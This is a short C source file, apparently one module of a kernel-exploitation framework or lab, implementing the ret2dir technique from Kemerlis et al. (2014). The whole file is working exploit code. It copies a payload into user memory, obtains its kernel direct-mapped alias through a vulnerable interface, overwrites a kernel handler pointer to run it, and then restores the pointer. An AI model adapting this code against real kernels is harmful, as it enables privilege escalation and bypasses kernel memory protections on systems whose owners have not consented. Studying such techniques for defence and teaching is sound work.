// Return to direct-mapped memory: the kernel maps all memory at addresses of its own, this program's page too. The
// function pointer stays in the kernel's half, yet the code is the program's (Kemerlis et al., ret2dir, USENIX Security 2014).
#include "exploit.h"

static int run(const struct vuln_leak *leak) {
    static unsigned char code[sizeof moved_payload];
    memcpy(code, moved_payload, sizeof code);
    uint32_t alias = vuln(VULN_ALIAS, (uintptr_t)code, 0);
    announce("ret2dir", (uintptr_t)code);
    vuln(VULN_POKE, leak->handler_pointer, alias);
    int cs = vuln(VULN_CALL, 0, 0);
    vuln(VULN_POKE, leak->handler_pointer, leak->handler);
    return cs;
}

const struct exploit exploit_ret2dir = {"ret2dir", run, 0};
